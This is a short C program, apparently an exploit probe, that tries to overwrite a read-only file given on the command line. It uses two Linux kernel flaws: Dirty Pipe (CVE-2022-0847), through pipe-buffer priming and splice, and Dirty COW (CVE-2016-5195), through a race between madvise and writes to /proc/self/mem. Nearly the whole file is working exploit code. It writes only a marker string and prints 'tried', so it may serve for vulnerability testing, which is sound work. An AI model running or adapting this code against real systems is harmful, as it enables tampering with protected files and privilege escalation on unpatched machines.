/* Tries to change a file that can only be read: through a spliced pipe, and through private pages. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

static char *page;
static volatile int stop;

static void *discard(void *unused) {
  while (!stop) madvise(page, 4096, MADV_DONTNEED);
  return unused;
}

int main(int argc, char **argv) {
  if (argc < 2) return 1;
  int file = open(argv[1], O_RDONLY);
  if (file < 0) return 1;
  int pipes[2];
  if (pipe(pipes) != 0) return 1;
  static char junk[65536];
  /* Buffers that have been full once may be written to again (CVE-2022-0847). */
  if (write(pipes[1], junk, sizeof junk) < 0 || read(pipes[0], junk, sizeof junk) < 0) return 1;
  off64_t offset = 0;
  splice(file, &offset, pipes[1], NULL, 1, 0);
  if (write(pipes[1], "planted", 7) < 0) return 1;
  /* Writing to private pages while they are thrown away (CVE-2016-5195). */
  page = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, file, 0);
  int memory = open("/proc/self/mem", O_RDWR);
  pthread_t thread;
  pthread_create(&thread, NULL, discard, NULL);
  for (int i = 0; i < 20000; i++)
    if (pwrite(memory, "planted", 7, (off_t)(uintptr_t)page) < 0) break;
  stop = 1;
  pthread_join(thread, NULL);
  printf("tried\n");
  return 0;
}
